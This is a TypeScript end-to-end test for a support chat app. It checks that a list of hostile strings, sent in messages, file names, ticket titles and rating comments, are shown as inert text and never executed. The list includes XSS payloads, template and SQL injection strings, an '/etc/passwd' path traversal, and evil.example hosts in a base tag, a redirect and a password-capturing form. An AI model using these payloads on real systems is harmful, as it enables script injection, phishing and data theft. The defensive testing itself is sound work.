import { textFile } from './house/files.ts';
import { expect, test } from './house/test.ts';

/** Texts that are markup, script, style, formulas, templates, control signs or nothing but trouble somewhere. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe srcdoc='<script>parent.alert(1)</script>'>",
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<math><mtext></table><img src onerror=alert(1)></math>',
  '<style>*{display:none}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=p type=password></form>',
  '<object data="data:text/html,x"></object>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<!-- comment --!><b>bold</b>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '#{7*7} <%= 7*7 %> {7*7}',
  "{0, plural, one {x} other {'{'}}",
  '[click](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '=HYPERLINK("http://evil.example","x")',
  "'; DROP TABLE conversations; --",
  '../../../../etc/passwd',
  'https://example.com/"onmouseover="alert(1)',
  'http://user:pass@evil.example@example.com/',
  '\u202e txt.exe\u202c',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a',
  '\u200b\u200dz\u2060w',
  '\ufeff\u00a0BOM',
  '👩‍👩‍👧‍👦🏳️‍🌈 𝕏 𠮷',
  'السلام عليكم <b>مرحبا</b>',
  '\u0000\u0001\u0007 control',
  'x'.repeat(600),
  '第一行\n第二行\n\n第四行',
];

test('hostile text is shown as text on both sides, and runs nowhere', async ({ customer, agent }) => {
  const li = await agent('li');
  const zhang = await customer();
  await zhang.walkToSupport();
  await zhang.person.click();
  await li.accept('张**');
  const breaches: string[] = [];
  for (const page of [zhang.page, li.page]) {
    await page.exposeFunction('breach', (what: string) => breaches.push(what));
    await page.evaluate(() =>
      document.addEventListener('securitypolicyviolation', (e) =>
        (window as unknown as { breach(s: string): void }).breach(`${e.violatedDirective} ${e.blockedURI}`),
      ),
    );
  }
  for (const text of payloads) {
    await zhang.box.fill(text);
    await zhang.button('composer.send').click();
    await expect(zhang.box).toHaveValue('');
  }
  const said = payloads.map(shown);
  await expect(zhang.log.getByText(/第四行/)).toBeVisible();
  await expect(li.thread.getByText(/第四行/)).toBeVisible();
  for (const where of [zhang.log, li.thread]) {
    const there = (await where.locator('.text, .message-text').allTextContents()).map(shown);
    expect(there).toEqual(said);
  }

  // The other way round, and in a note.
  for (const text of payloads.slice(0, 12)) await li.reply(text);
  await li.note(payloads.slice(0, 12).join(' '));
  await expect(zhang.log.getByText(payloads[11] as string, { exact: true })).toHaveCount(2);
  await expect(li.thread.getByText(payloads[11] as string, { exact: true })).toHaveCount(2);

  // File names, the title of a ticket, a tag, the comment of a rating.
  const names = ['<img src=x onerror=alert(1)>.txt', '"><svg onload=alert(1)>.txt', '../../etc/passwd', 'CON.txt', '\u202etxt.exe'];
  await zhang.sendFiles(...names.map(textFile));
  await expect(zhang.log.getByRole('button', { name: /onerror=alert/ })).toBeVisible();
  await expect(li.thread.getByRole('button', { name: /onerror=alert/ })).toBeVisible();
  await expect(li.thread.getByRole('button', { name: /passwd/ })).toBeVisible();
  await li.button('more', li.conversation).click();
  await li.page.getByRole('menuitem', { name: li.say('action.ticket') }).click();
  await li.dialog.getByRole('textbox', { name: li.say('ticket.title') }).fill(payloads[1] as string);
  await li.button('ticket.create', li.dialog).click();
  await expect(li.dialog).toBeHidden();
  await li.close();
  await zhang.rating.getByText(zhang.texts.t('rating.1'), { exact: true }).click();
  await zhang.rating.getByRole('textbox', { name: zhang.texts.t('rating.comment') }).fill(payloads[2] as string);
  await zhang.button('rating.send').click();
  await expect(li.conversation.getByText(payloads[2] as string).last()).toBeVisible();
  await li.page.getByRole('link', { name: li.say('nav.tickets') }).click();
  await expect(li.page.getByRole('table').getByText(payloads[1] as string, { exact: true })).toBeVisible();
  expect(breaches).toEqual([]);
  for (const page of [zhang.page, li.page]) expect(await page.locator('script:not([src])').count()).toBe(0);
});

/** As it is compared: control signs, and white space at the ends, may be taken away; nothing else may. */
function shown(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is meant.
  return text.replace(/[\u0000-\u0008\u000b-\u001f\ufeff]/g, '').trim();
}
